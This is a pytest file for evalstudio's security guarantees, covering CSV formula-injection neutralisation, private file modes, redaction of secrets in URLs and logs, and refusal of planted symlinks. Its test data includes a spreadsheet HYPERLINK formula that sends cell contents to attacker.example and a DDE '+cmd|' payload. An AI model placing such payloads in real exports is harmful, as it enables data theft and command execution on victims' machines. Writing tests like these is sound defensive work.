"""Security promises (docs/security.md): private files, no secret in argv, logs or messages, spreadsheet-safe CSV."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evalstudio.base.errors import BadInput, EvalstudioError
from evalstudio.base.retry import RetryPolicy
from evalstudio.exporters.tables.files import neutralise, spreadsheet_safe
from evalstudio.labelstudio.client import Client
from evalstudio.labelstudio.connection import Settings
from evalstudio.tasks.importing import import_files
from evalstudio.values.results import region

from .conftest import ROOT, example_files, only_on_the_last_database

FORMULA = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.mark.parametrize("value, shown", [
    (EVIL, "'" + EVIL), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-5", "-5"), ("+1.5", "+1.5"), ("-1e3", "-1e3"), ("plain text", "plain text"),
    ("a=b", "a=b"), (7.5, 7.5), (None, None),
])
def test_cells_a_spreadsheet_would_evaluate_are_neutralised(value, shown):
    assert neutralise(value) == shown


@settings(deadline=None)  # cases: the HYPOTHESIS_PROFILE (conftest.py)
@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_no_csv_cell_starts_a_formula(texts):
    frame = spreadsheet_safe(pd.DataFrame({"note": texts}))
    for original, cell in zip(texts, frame["note"]):
        if cell != original:  # only ever a leading ' added
            assert cell == "'" + original
        assert not (cell.startswith(FORMULA) and neutralise(cell) != cell)


_CELL = st.one_of(st.none(), st.text(max_size=6), st.integers(-5, 5), st.floats(allow_nan=True, allow_infinity=False),
                  st.booleans(), st.sampled_from(["=1", "-2", "+x", "a\rb", "@", "\t", "'"]))


@settings(deadline=None)
@given(st.lists(st.tuples(_CELL, _CELL, st.text(max_size=4)), min_size=0, max_size=6),
       st.sampled_from([object, "str", None]))
def test_the_csv_is_byte_for_byte_that_of_neutralising_every_text_column(rows, kind):
    """write_csv skips the per-cell pass where a text column cannot change; its bytes are those of the rule it
    stands for (every non-numeric column mapped through `neutralise`, the lines ending in \\r\\n where a cell or
    name holds a carriage return), whatever the column types: numbers in an object column, missing values, text."""
    import io

    from evalstudio.exporters.tables.files import write_csv

    frame = pd.DataFrame(rows, columns=["mixed", "other", "text"])
    if kind is not None:
        frame["text"] = frame["text"].astype(kind)
    reference = frame.copy()
    for column in reference.columns:
        if not pd.api.types.is_numeric_dtype(reference[column]) and not pd.api.types.is_bool_dtype(reference[column]):
            reference[column] = reference[column].map(neutralise, na_action="ignore")
    carriage = any(isinstance(v, str) and "\r" in v for c in reference.columns
                   if pd.api.types.is_object_dtype(reference[c]) or pd.api.types.is_string_dtype(reference[c])
                   for v in reference[c])
    expected = reference.to_csv(index=False, lineterminator="\r\n" if carriage else "\n")
    written = io.StringIO()
    write_csv(frame, written)
    assert written.getvalue() == expected


@pytest.mark.server
def test_export_and_report_csv_are_safe_and_raw_formats_keep_the_text(reg, importer_for, client, label_studio, tmp_path):
    only_on_the_last_database(label_studio)  # what is written is evalstudio's; the database only stores the text
    from .test_cli import run

    project = reg.entry("cmv_tom").model_copy(update={"title": "cmv formula injection"})
    report = import_files(project, importer_for("cmv"), example_files("cmv"), client)
    task = min(client.export_tasks(report.project_id), key=lambda t: t["id"])
    admin = next(uid for uid, email in client.users().items() if email == label_studio.credentials().username)
    if not task["annotations"]:
        li = project.interface
        client.sdk.annotations.create(id=task["id"], completed_by=admin,
                                      result=[region(li, "q1_persuasive", "Yes"), region(li, "note", EVIL)])
    env = {"LABEL_STUDIO_URL": label_studio.url, "LABEL_STUDIO_API_KEY": label_studio.credentials().api_key}
    where = ["--project-id", str(report.project_id)]
    notes = {}
    for fmt in ("csv", "jsonl", "parquet"):
        out = tmp_path / f"annotations.{fmt}"
        done = run("export", "cmv_tom", "-o", str(out), "--format", fmt, *where, env=env)
        assert done.returncode == 0, done.stderr
        if fmt == "csv":
            with open(out, newline="", encoding="utf-8") as f:
                rows = list(csv.DictReader(f))
        elif fmt == "jsonl":
            rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        else:
            rows = pd.read_parquet(out).to_dict("records")
        notes[fmt] = {r["note"] for r in rows if r["note"] not in (None, "") and r["note"] == r["note"]}
    assert notes == {"csv": {"'" + EVIL}, "jsonl": {EVIL}, "parquet": {EVIL}}

    done = run("report", "cmv_tom", "-o", str(tmp_path / "rep"), "--bootstrap", "10", *where, env=env)
    assert done.returncode == 0, done.stderr
    for table in (tmp_path / "rep").glob("*.csv"):
        with open(table, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                assert not any(cell.startswith(FORMULA) and neutralise(cell) != cell for cell in row), (table.name, row)


@pytest.mark.server
def test_label_studio_data_is_private_to_this_user(label_studio):
    """The data folder is 0700, and nothing in it (SQLite database, token files, logs) is readable by others."""
    data = label_studio.data_dir
    assert mode(data) == 0o700
    checked = [data / "credentials.json", data / "evalstudio.env", data / "label-studio.log"]
    sqlite = list(data.rglob("*.sqlite3"))
    for path in checked + sqlite:
        assert mode(path) & 0o077 == 0, path


def test_an_existing_open_data_folder_is_tightened(tmp_path):
    from evalstudio.base.credentials import private_dir, write_private

    folder = tmp_path / "data"
    folder.mkdir(mode=0o755)
    folder.chmod(0o755)
    private_dir(folder)
    assert mode(folder) == 0o700
    write_private(folder / "secret.txt", "x")
    assert mode(folder / "secret.txt") == 0o600


@pytest.mark.parametrize("folder_mode", [0o1777, 0o777, 0o775, 0o757])
def test_a_folder_others_can_write_to_is_refused_for_secrets_and_left_as_it_is(tmp_path, folder_mode):
    """A shared folder (such as /tmp, 1777) never gets its mode changed, and holds no secret of evalstudio's: a
    secret there could be swapped or removed by another user."""
    from evalstudio.base.credentials import private_dir, write_private

    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(folder_mode)
    with pytest.raises(BadInput, match="other users can write to this folder"):
        private_dir(shared)
    with pytest.raises(BadInput, match="other users can write to this folder"):
        write_private(shared / "ml-backend.auth", "x:y")
    assert mode(shared) == folder_mode and not (shared / "ml-backend.auth").exists()
    private_dir(shared / "mine")  # a new folder of evalstudio's own inside it is fine, and private
    assert mode(shared / "mine") == 0o700 and mode(shared) == folder_mode
    env = {**os.environ, "LABEL_STUDIO_URL": "http://127.0.0.1:9", "LABEL_STUDIO_API_KEY": "abc123"}
    added = subprocess.run([sys.executable, "-m", "evalstudio.cli", "participants", "add", "P1", "--folder",
                            str(shared)], env=env, capture_output=True, text=True, timeout=120)
    assert added.returncode == 2 and "other users can write to this folder" in added.stderr, added.stderr
    assert mode(shared) == folder_mode


@pytest.mark.parametrize("key", ["abc123\r", " abc123 \r\n", "abc123\n"])
def test_a_key_from_a_crlf_env_file_works_and_is_never_shown(key, monkeypatch, tmp_path):
    from evalstudio.labelstudio.connection import settings_from_env

    monkeypatch.chdir(tmp_path)
    (tmp_path / ".env").write_bytes(f"LABEL_STUDIO_URL=http://127.0.0.1:9\r\nLABEL_STUDIO_API_KEY={key}\r\n".encode())
    monkeypatch.delenv("LABEL_STUDIO_URL", raising=False)
    monkeypatch.delenv("LABEL_STUDIO_API_KEY", raising=False)
    settings = settings_from_env((tmp_path / ".env",))
    assert settings.api_key == "abc123"
    client = Client(settings, retry=RetryPolicy(attempts=1))
    with pytest.raises(EvalstudioError) as error:  # nothing listens on port 9: a clean "cannot reach" error
        client.users()
    assert "abc123" not in str(error.value) and "Illegal header" not in str(error.value)


@pytest.mark.parametrize("key", ["abc 123", "abc\x00123", "abc\r123", 'abc"123'])
def test_a_malformed_key_is_refused_without_repeating_it(key):
    with pytest.raises(EvalstudioError) as error:
        Client(Settings("http://127.0.0.1:9", key))
    assert "abc" not in str(error.value)


@pytest.mark.parametrize("url", ["http://admin:hunter2-secret@127.0.0.1:9", "ftp://admin:hunter2-secret@127.0.0.1:9",
                                 "127.0.0.1:9", "http://admin:hunter2-secret@127.0.0.1:notaport",
                                 "http://admin:hunter2-secret@W0RD@127.0.0.1:9/x",  # a password with @ in it
                                 "http://admin:hunter2-secret@127.0.0.1\x7f:9", "http://admin:hunter2-secret@xn--.invalid",
                                 "http://admin:hunter2-secret@a..b:9", "http://127.0.0.1:9\n", "http://127.0.0.1\t:9"])
def test_credentials_in_a_url_are_never_echoed(url, tmp_path):
    from .test_cli import run

    rows = tmp_path / "explain.csv"  # a Circa row whose explanation the backend at --ml-url would write
    rows.write_text("context,question,answer,explanation,interpretation\nX asks.,Q?,A.,,Yes\n", encoding="utf-8")
    url = url.replace("\\x7f", "\x7f").replace("\\n", "\n").replace("\\t", "\t")
    for command in (["setup", "dialogue"], ["generate", "circa", rows, "-o", tmp_path / "out.csv", "--ml-url", url]):
        done = run(*map(str, command), env={"LABEL_STUDIO_URL": url, "LABEL_STUDIO_API_KEY": "abc123",
                                            "EVALSTUDIO_ML_BASIC_AUTH": "user:pass",
                                            "EVALSTUDIO_RETRY_ATTEMPTS": "2"})  # one retry: its message too
        assert done.returncode in (1, 2), done.stderr
        assert "hunter2-secret" not in done.stderr + done.stdout and "Traceback" not in done.stderr, done.stderr
        assert "W0RD" not in done.stderr  # the whole user:password is hidden, also when it holds an @


@pytest.mark.parametrize("attempts, said", [("1", "(gave up after 1 attempt)"), ("3", "(gave up after 3 attempts)"),
                                            ("0", "EVALSTUDIO_RETRY_ATTEMPTS: expected a whole number of tries"),
                                            ("２", "EVALSTUDIO_RETRY_ATTEMPTS: expected a whole number of tries")])
def test_the_number_of_tries_is_the_one_asked_for(attempts, said):
    from .test_cli import run

    done = run("setup", "dialogue", env={"LABEL_STUDIO_URL": "http://127.0.0.1:9", "LABEL_STUDIO_API_KEY": "abc123",
                                         "EVALSTUDIO_RETRY_ATTEMPTS": attempts})
    assert done.returncode in (1, 2) and said in " ".join(done.stderr.split()), done.stderr
    assert "Traceback" not in done.stderr


def test_a_database_password_on_the_command_line_is_refused(tmp_path):
    from .test_cli import run

    done = run("server", "--data-dir", str(tmp_path / "d"), "--database-url", "postgresql://u:hunter2-secret@127.0.0.1/x")
    assert done.returncode == 1 and "EVALSTUDIO_DATABASE_URL" in done.stderr
    assert "hunter2-secret" not in done.stderr + done.stdout
    assert not (tmp_path / "d").exists()


def test_the_ml_backend_writes_its_secret_privately_and_never_shows_it(tmp_path):
    """`evalstudio ml-backend` creates the secret file 0600 in a 0700 folder and names only the file; it opens no
    gunicorn control socket (gunicorn's default is one path per user, ~/.gunicorn/gunicorn.ctl, which every backend
    of the user would share)."""
    import socket

    from evalstudio.labelstudio.server import wait_healthy

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if k != "EVALSTUDIO_ML_BASIC_AUTH"}
    env["EVALSTUDIO_PROJECTS"] = str(ROOT / "projects.yaml")
    env["HOME"] = str(tmp_path / "home")  # where gunicorn would put its control socket
    env.pop("XDG_RUNTIME_DIR", None)
    log = tmp_path / "backend.log"
    process = subprocess.Popen([sys.executable, "-m", "evalstudio.cli", "ml-backend", "--port", str(port), "--workers", "1",
                                "--model-dir", str(tmp_path / "state" / "models")], env=env, stdout=open(log, "w"),
                               stderr=subprocess.STDOUT)
    try:
        wait_healthy(f"http://127.0.0.1:{port}", 60, process, "the ML backend")
        secret_file = tmp_path / "state" / "ml-backend.auth"
        password = secret_file.read_text().strip().split(":", 1)[1]
        assert mode(secret_file) == 0o600 and mode(tmp_path / "state") == 0o700
        assert mode(tmp_path / "state" / "models") == 0o700
        import httpx

        assert httpx.post(f"http://127.0.0.1:{port}/predict", json={"tasks": []}).status_code == 401
        assert not (tmp_path / "home" / ".gunicorn").exists()
    finally:
        process.terminate()
        process.wait(timeout=20)
    assert password not in log.read_text() and str(secret_file) in log.read_text()


@pytest.mark.server
def test_no_secret_of_the_running_servers_is_on_a_command_line(label_studio):
    """`ps` shows every process's command line to every local user: Label Studio's password and token are not there."""
    from .test_ml_backend import all_command_lines

    creds = label_studio.credentials()
    lines = all_command_lines()
    assert any("label-studio" in line or "label_studio" in line for line in lines)
    assert not any(creds.password in line or creds.api_key in line for line in lines)


@pytest.mark.server
def test_no_secret_of_the_running_servers_is_in_its_log(label_studio):
    """Label Studio logs every request line: the token (sent as a header) and the password never appear there."""
    import time

    import httpx

    creds = label_studio.credentials()
    # a request with the token (a header) of its own, so that the test does not depend on which tests ran before
    # it; then wait until the server has logged it (a state, polled, not a duration)
    httpx.get(f"{label_studio.url}/api/projects", headers={"Authorization": f"Token {creds.api_key}"}, timeout=60)
    path = label_studio.data_dir / "label-studio.log"
    log = ""
    for _ in range(600):
        log = path.read_text(encoding="utf-8", errors="replace")
        if "/api/projects" in log:
            break
        time.sleep(0.1)
    assert "/api/" in log  # the log is the server's request log, not an empty file
    assert creds.password not in log and creds.api_key not in log


@pytest.mark.parametrize("writer", ["csv", "jsonl", "parquet", "approvals", "analysis"])
def test_outputs_are_private_and_never_written_through_a_planted_link(tmp_path, writer):
    """Issue 28.14: export, status and approval files name participants and were 0644; an output path where another
    user had planted a symbolic link was written through (overwriting what the link pointed to). Outputs are now
    0600 (an existing file too) and a link in their place is refused, its target untouched."""
    from evalstudio.exporters.payments.approvals import write_approvals
    from evalstudio.exporters.tables.files import write_table
    from evalstudio.exporters.analyses.metaeval import write_analysis

    frame = pd.DataFrame({"participant": ["5f1a2b"], "decision": ["approve"], "bonus": [1.0], "reason": [""]})
    target = tmp_path / "victim.txt"
    target.write_text("precious", encoding="utf-8")

    def write(folder):
        if writer == "approvals":
            write_approvals(frame, "prolific", folder)
            return folder / "approvals.csv"
        if writer == "analysis":
            write_analysis({"agreement": pd.DataFrame(columns=["criterion"]), "people": frame}, "t", folder)
            return folder / "people.csv"
        write_table(frame, folder / f"out.{writer}", writer)
        return folder / f"out.{writer}"
    clean = tmp_path / "clean"
    clean.mkdir()
    written = write(clean)
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    written.chmod(0o644)
    write(clean)  # written again: private again
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / written.name).symlink_to(target)
    with pytest.raises(BadInput, match="is a symbolic link"):
        write(planted)
    assert target.read_text(encoding="utf-8") == "precious"


SHOWN_URLS = [
    ("postgresql://ledger:s3cr%40t@127.0.0.1:5432/db", "postgresql://***@127.0.0.1:5432/db"),
    ("postgresql://127.0.0.1/db?user=l&password=s3cret&sslmode=disable",
     "postgresql://127.0.0.1/db?user=l&password=***&sslmode=disable"),
    ("postgresql://127.0.0.1/db?PASSWORD=s3cret", "postgresql://127.0.0.1/db?PASSWORD=***"),
    ("postgresql://127.0.0.1/db?sslpassword=k3y#x", "postgresql://127.0.0.1/db?sslpassword=***#x"),
    ("http://127.0.0.1:8080", "http://127.0.0.1:8080"),
]


@pytest.mark.parametrize("url, shown", SHOWN_URLS)
def test_a_url_is_shown_without_its_password_wherever_it_is_given(url, shown):
    """What the gateway and server print of a database URL (the ledger's location) holds no password: neither
    user:password@ nor libpq's ?password= query parameter."""
    from evalstudio.labelstudio.connection import shown_url

    assert shown_url(url) == shown
